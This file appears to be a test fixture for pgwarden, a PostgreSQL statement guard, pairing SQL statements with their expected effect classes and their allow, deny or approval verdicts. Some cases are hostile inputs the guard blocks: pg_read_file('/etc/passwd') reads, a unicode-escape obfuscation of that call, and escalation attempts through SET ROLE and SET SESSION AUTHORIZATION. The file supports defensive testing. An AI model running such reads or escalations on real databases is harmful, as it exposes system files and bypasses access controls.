#> ALTER_ROLE rw=Deny ro=Deny
REASSIGN OWNED BY bob TO alice

## ---------------------------------------------------------------- CALL and DO
## A procedure pgwarden cannot see into counts as every kind of write.
#> CALL rw=Deny@privileges ro=Deny
CALL refresh_stats()
#> CALL rw=Deny@privileges ro=Deny
CALL reporting.rebuild(42, 'x')
#> DO effects=DO rw=Allow ro=Deny
DO $$ BEGIN RAISE NOTICE 'hello; world'; END $$
#> DO rw=Allow ro=Deny
DO LANGUAGE plpgsql $body$
DECLARE r record;
BEGIN
  FOR r IN SELECT * FROM t LOOP RAISE NOTICE '%', r; END LOOP;
END
$body$
#> DO rw=Deny@pgwarden:server-files ro=Deny
DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$
#> DO rw=RequireApproval@pgwarden:dynamic-sql ro=Deny
DO $do$ BEGIN PERFORM query_to_xml($q$select 1$q$, true, false, ''); END $do$
#> UNPARSEABLE effects=UNPARSEABLE,DO rw=RequireApproval@onUnparseable ro=Deny
DO E'BEGIN PERFORM pg\u005fread_file(''/etc/passwd''); END'

## ---------------------------------------------------------------- transactions
#> TRANSACTION effects=TRANSACTION rw=Allow ro=Allow
BEGIN
#> TRANSACTION rw=Allow ro=Allow
BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE
#> TRANSACTION rw=Allow ro=Deny@access.mode=ReadOnly
BEGIN READ WRITE
#> TRANSACTION rw=Allow ro=Deny
START TRANSACTION READ WRITE
#> TRANSACTION rw=Allow ro=Allow
START TRANSACTION ISOLATION LEVEL REPEATABLE READ
#> TRANSACTION rw=Allow ro=Deny
BEGIN TRANSACTION ISOLATION LEVEL READ COMMITTED, READ WRITE
#> TRANSACTION rw=Allow ro=Allow
COMMIT
#> TRANSACTION rw=Allow ro=Allow
COMMIT AND CHAIN
#> TRANSACTION rw=Allow ro=Allow
END
#> TRANSACTION rw=Allow ro=Allow
ROLLBACK
#> TRANSACTION rw=Allow ro=Allow
ABORT
#> TRANSACTION rw=Allow ro=Allow
SAVEPOINT sp1
#> TRANSACTION rw=Allow ro=Allow
RELEASE SAVEPOINT sp1
#> TRANSACTION rw=Allow ro=Allow
RELEASE sp1
#> TRANSACTION rw=Allow ro=Allow
ROLLBACK TO SAVEPOINT sp1
#> TRANSACTION rw=Allow ro=Allow
ROLLBACK TO sp1
#> TRANSACTION rw=Allow ro=Allow
PREPARE TRANSACTION 'tx-1'
#> TRANSACTION rw=Allow ro=Allow
COMMIT PREPARED 'tx-1'
#> TRANSACTION rw=Allow ro=Allow
ROLLBACK PREPARED 'tx-1'
#> TRANSACTION rw=Allow ro=Allow
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
#> TRANSACTION rw=Allow ro=Deny
SET TRANSACTION READ WRITE
#> TRANSACTION rw=Allow ro=Deny
SET LOCAL TRANSACTION READ WRITE
#> TRANSACTION rw=Allow ro=Allow
SET TRANSACTION SNAPSHOT '00000003-0000001B-1'

## ---------------------------------------------------------------- EXPLAIN
#> EXPLAIN effects=EXPLAIN rw=Allow ro=Allow
EXPLAIN SELECT * FROM users
#> EXPLAIN rw=Allow ro=Allow
EXPLAIN (FORMAT JSON, COSTS OFF) SELECT 1
#> EXPLAIN effects=EXPLAIN,SELECT rw=Allow ro=Allow
EXPLAIN ANALYZE SELECT * FROM users
#> EXPLAIN effects=EXPLAIN rw=Allow ro=Allow
EXPLAIN DELETE FROM users
#> EXPLAIN effects=EXPLAIN,DELETE unbounded rw=RequireApproval@unbounded-writes ro=Deny
EXPLAIN ANALYZE DELETE FROM users
#> EXPLAIN effects=EXPLAIN,UPDATE rw=Allow ro=Deny
EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1
#> EXPLAIN effects=EXPLAIN,DELETE rw=Allow ro=Deny
EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1
#> EXPLAIN effects=EXPLAIN,DELETE unbounded rw=RequireApproval ro=Deny
EXPLAIN (FORMAT YAML, ANALYZE off) DELETE FROM t
#> EXPLAIN effects=EXPLAIN,INSERT rw=Allow ro=Deny
EXPLAIN ANALYZE VERBOSE INSERT INTO t VALUES (1)
#> EXPLAIN effects=EXPLAIN,CREATE,SELECT rw=Allow ro=Deny
EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT * FROM t
#> EXPLAIN rw=RequireApproval@onUnparseable ro=RequireApproval
EXPLAIN ANALYZE EXECUTE q
#> EXPLAIN rw=Allow ro=Allow
EXPLAIN (GENERIC_PLAN) SELECT * FROM t WHERE id = $1
#> EXPLAIN rw=Deny@pgwarden:server-files ro=Deny
EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')

## ---------------------------------------------------------------- PREPARE / EXECUTE / DEALLOCATE
#> PREPARE effects=PREPARE,SELECT rw=Allow ro=Allow
PREPARE q1 (int) AS SELECT * FROM users WHERE id = $1
#> PREPARE effects=PREPARE,DELETE rw=Allow ro=Deny
PREPARE q2 AS DELETE FROM t WHERE id = $1
#> PREPARE effects=PREPARE,DELETE unbounded rw=Allow@prepare ro=Deny
PREPARE q3 AS DELETE FROM t
#> PREPARE effects=PREPARE,UPDATE unbounded rw=Allow ro=Deny
PREPARE q4 (text) AS UPDATE t SET a = $1
#> PREPARE rw=Deny@pgwarden:server-files ro=Deny
PREPARE q5 (text) AS SELECT pg_read_file($1)
#> PREPARE effects=PREPARE,INSERT rw=Allow ro=Deny
PREPARE q6 (int, text) AS INSERT INTO t VALUES ($1, $2) ON CONFLICT DO NOTHING
#> EXECUTE rw=RequireApproval@onUnparseable ro=RequireApproval@onUnparseable
EXECUTE q1(42)
#> EXECUTE rw=RequireApproval ro=RequireApproval
EXECUTE q3
#> PREPARE rw=Allow ro=Allow
DEALLOCATE q1
#> PREPARE rw=Allow ro=Allow
DEALLOCATE PREPARE ALL

## ---------------------------------------------------------------- cursors
#> DECLARE effects=DECLARE,SELECT rw=Allow ro=Allow
DECLARE c CURSOR FOR SELECT * FROM users
#> DECLARE rw=Allow ro=Allow
DECLARE c BINARY INSENSITIVE SCROLL CURSOR WITH HOLD FOR SELECT id FROM t ORDER BY id
#> DECLARE rw=Allow ro=Allow
DECLARE c NO SCROLL CURSOR WITHOUT HOLD FOR VALUES (1), (2)
#> DECLARE rw=Deny@pgwarden:server-files ro=Deny
DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')
#> DECLARE effects=DECLARE,SELECT,OTHER rw=Allow ro=Deny
DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE
#> FETCH effects=FETCH rw=Allow ro=Allow
FETCH NEXT FROM c
#> FETCH rw=Allow ro=Allow
FETCH FORWARD 100 FROM c
#> FETCH rw=Allow ro=Allow
FETCH ALL IN c
#> FETCH rw=Allow ro=Allow
FETCH ABSOLUTE -1 FROM c
#> FETCH rw=Allow ro=Allow
MOVE BACKWARD 5 IN c
#> FETCH rw=Allow ro=Allow
CLOSE c
#> FETCH rw=Allow ro=Allow
CLOSE ALL

## ---------------------------------------------------------------- LISTEN / NOTIFY
#> LISTEN rw=Allow ro=Allow
LISTEN events
#> LISTEN rw=Allow ro=Allow
UNLISTEN *
#> NOTIFY rw=Allow ro=Deny
NOTIFY events, 'payload; with semicolon'
#> NOTIFY rw=Allow ro=Deny
NOTIFY "Mixed Case"

## ---------------------------------------------------------------- maintenance
#> VACUUM rw=Allow ro=Deny
VACUUM
#> VACUUM rw=Allow ro=Deny
VACUUM (VERBOSE, ANALYZE) users
#> VACUUM rw=Allow ro=Deny
VACUUM FULL FREEZE users
#> ANALYZE rw=Allow ro=Deny
ANALYZE users (id, name)
#> ANALYZE rw=Allow ro=Deny
ANALYZE VERBOSE
#> ANALYZE rw=Allow ro=Deny
ANALYSE users
## A lock stronger than ROW SHARE is a LOCK, which rules can name (it can stop the application).
#> LOCK rw=Allow ro=Deny
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
#> LOCK rw=Allow ro=Deny
LOCK users IN SHARE ROW EXCLUSIVE MODE NOWAIT
#> OTHER rw=Allow ro=Deny
REFRESH MATERIALIZED VIEW mv
#> OTHER rw=Allow ro=Deny
REFRESH MATERIALIZED VIEW CONCURRENTLY mv WITH DATA
#> OTHER rw=Allow ro=Deny
CLUSTER users USING users_pkey
#> OTHER rw=Allow ro=Deny
REINDEX TABLE CONCURRENTLY users
#> OTHER rw=Allow ro=Deny
CHECKPOINT
#> OTHER rw=Deny@pgwarden:server-libraries ro=Deny
LOAD 'auto_explain'

## ---------------------------------------------------------------- SET / RESET / SHOW / DISCARD
#> SET effects=SET rw=Allow ro=Allow
SET search_path TO reporting, public
#> SET rw=Allow ro=Allow
SET search_path = "$user", public
#> SET rw=Allow ro=Allow
SET statement_timeout = '5s'
#> SET rw=Allow ro=Allow
SET LOCAL work_mem = '64MB'
#> SET rw=Allow ro=Allow
SET SESSION datestyle TO 'ISO, DMY'
#> SET rw=Allow ro=Allow
SET TIME ZONE 'UTC'
#> SET rw=Allow ro=Allow
SET TIME ZONE LOCAL
#> SET rw=Allow ro=Allow
SET SCHEMA 'reporting'
#> SET rw=Allow ro=Allow
SET myapp.tenant_id = '42'
#> SET rw=Deny@pgwarden:identity ro=Deny@pgwarden:identity
SET ROLE admin
#> SET rw=Deny@pgwarden:identity ro=Deny
SET LOCAL ROLE admin
#> SET rw=Deny@pgwarden:identity ro=Deny
SET role = 'postgres'
#> SET rw=Deny@pgwarden:identity ro=Deny
SET SESSION AUTHORIZATION postgres
#> SET rw=Deny@pgwarden:identity ro=Deny
SET LOCAL SESSION AUTHORIZATION postgres
#> SET rw=Allow ro=Deny@access.mode=ReadOnly
SET default_transaction_read_only = off
#> SET rw=Allow ro=Deny
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
#> SET rw=Allow ro=Allow
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE
#> SET rw=Allow ro=Deny
SET transaction_read_only = off
#> SET rw=Deny@pgwarden:protected-settings ro=Deny
SET client_encoding TO 'LATIN1'
#> SET rw=Deny@pgwarden:protected-settings ro=Deny
SET NAMES 'SQL_ASCII'
#> SET rw=Deny@pgwarden:protected-settings ro=Deny
SET standard_conforming_strings = off
#> SET rw=Allow ro=Allow
SET application_name = 'sneaky'  -- allowed: pgjdbc sets it after connecting; session_start records the backend pid
#> SET rw=Allow ro=Allow
RESET search_path
#> SET rw=Allow ro=Allow
RESET ALL
#> SET rw=Allow ro=Allow
RESET ROLE
#> SET rw=Allow ro=Allow
RESET SESSION AUTHORIZATION
#> SHOW rw=Allow ro=Allow
SHOW search_path
#> SHOW rw=Allow ro=Allow
SHOW ALL
#> SHOW rw=Allow ro=Allow
SHOW TIME ZONE
#> SHOW rw=Allow ro=Allow
SHOW TRANSACTION ISOLATION LEVEL
#> SET rw=Allow ro=Allow
DISCARD ALL
#> SET rw=Allow ro=Allow
DISCARD PLANS

## ---------------------------------------------------------------- not valid, or not classifiable
#> UNPARSEABLE rw=RequireApproval@onUnparseable ro=RequireApproval@onUnparseable
SELEC 1
#> UNPARSEABLE rw=RequireApproval ro=RequireApproval
SELECT 'unterminated
#> UNPARSEABLE rw=RequireApproval ro=RequireApproval
SELECT 1 /* never closed
#> UNPARSEABLE rw=RequireApproval ro=RequireApproval
SELECT "unterminated
#> UNPARSEABLE rw=RequireApproval ro=RequireApproval
SELECT $$ unterminated
#> UNPARSEABLE rw=RequireApproval ro=RequireApproval
FROBNICATE the database
#> UNPARSEABLE effects=UNPARSEABLE,DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM WHERE
